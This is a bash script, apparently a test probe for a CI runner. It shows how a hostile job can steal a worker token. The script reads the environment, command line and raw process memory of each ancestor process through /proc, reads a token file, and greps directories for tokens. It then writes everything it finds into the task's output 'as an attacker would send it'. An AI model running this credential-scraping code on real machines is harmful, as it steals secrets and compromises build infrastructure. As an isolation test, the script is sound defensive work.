#!/usr/bin/env bash
# What a hostile script on a shell-executor runner tries, to steal the worker
# token: the environment, command line and memory of each of its ancestors
# below STOP_PID (its own shell, the runner, npm and its shell: the test's own
# process and what started it are left alone), the token file, and every file
# under DIRS. Whatever looks like a worker token goes to OUT/loot; OUT/report
# gets one line per attempt: "<what> <pid or path> found|none|denied", and
# after "found" the tokens it found, so that the test can tell the one under
# test from those of whatever else runs on the machine.
#   probe.sh OUT STOP_PID TOKEN_FILE [DIR...]
set -u
out=$1 stop=$2 token_file=$3
shift 3
loot="$out/loot" report="$out/report" read="$out/read"
: >"$loot"
: >"$report"
pattern='cw_[A-Za-z0-9_-]\{20,\}'

note() { printf '%s\n' "$*" >>"$report"; }

# Keeps what looks like a token in $read, and says whether there was any.
take() {
  local what=$1 hits
  hits=$(grep -a -o "$pattern" "$read" | sort -u)
  if [ -n "$hits" ]; then
    printf '%s\n' "$hits" >>"$loot"
    note "$what found $(printf '%s' "$hits" | tr '\n' ' ')"
  else
    note "$what none"
  fi
}

# try WHAT FILE: the file's content, or "denied" when it cannot be opened.
try() {
  if cat -- "$2" >"$read" 2>/dev/null; then take "$1"; else note "$1 denied"; fi
}

# mem WHAT PID: every private readable mapping (heap, stack, anonymous) of PID.
mem() {
  local pid=$2
  if ! dd if="/proc/$pid/mem" bs=1 count=0 status=none 2>/dev/null; then
    note "$1 denied"
    return
  fi
  : >"$read"
  local range perms offset dev inode path
  while read -r range perms offset dev inode path; do
    case "$perms" in r*) ;; *) continue ;; esac
    case "$path" in '' | '[heap]' | '[stack]' | '[anon:'*) ;; *) continue ;; esac
    local start=$((16#${range%-*})) end=$((16#${range#*-}))
    dd if="/proc/$pid/mem" bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) \
      status=none 2>/dev/null | grep -a -o "$pattern" >>"$read"
  done <"/proc/$pid/maps"
  take "$1"
}

# Its own environment first: what the runner handed it.
env >"$read"
take "own-environ $$"

# The ancestors, up to the test's own process.
pid=$$
while :; do
  pid=$(awk '/^PPid:/ { print $2 }' "/proc/$pid/status" 2>/dev/null)
  [ -n "$pid" ] && [ "$pid" -gt 1 ] && [ "$pid" != "$stop" ] || break
  note "ancestor $pid $(tr '\0' ' ' <"/proc/$pid/cmdline" 2>/dev/null | head -c 300)"
  try "environ $pid" "/proc/$pid/environ"
  try "cmdline $pid" "/proc/$pid/cmdline"
  mem "mem $pid" "$pid"
done
note "stopped at $pid"

if [ -n "$token_file" ]; then try "token-file $token_file" "$token_file"; fi

for dir in "$@"; do
  if ! ls -- "$dir" >/dev/null 2>&1; then
    note "files $dir denied"
    continue
  fi
  grep -r -a -o -s --exclude-dir=node_modules --exclude-dir=.git "$pattern" -- "$dir" >"$read"
  take "files $dir"
done

cat "$report"
echo "loot:"
cat "$loot"
# And out through the task's outputs, as an attacker would send it: all of
# it, since what it found first may be another runner's.
echo "found=$(sort -u "$loot" | tr '\n' ' ')" >>"$CONDUCTOR_OUTPUT"
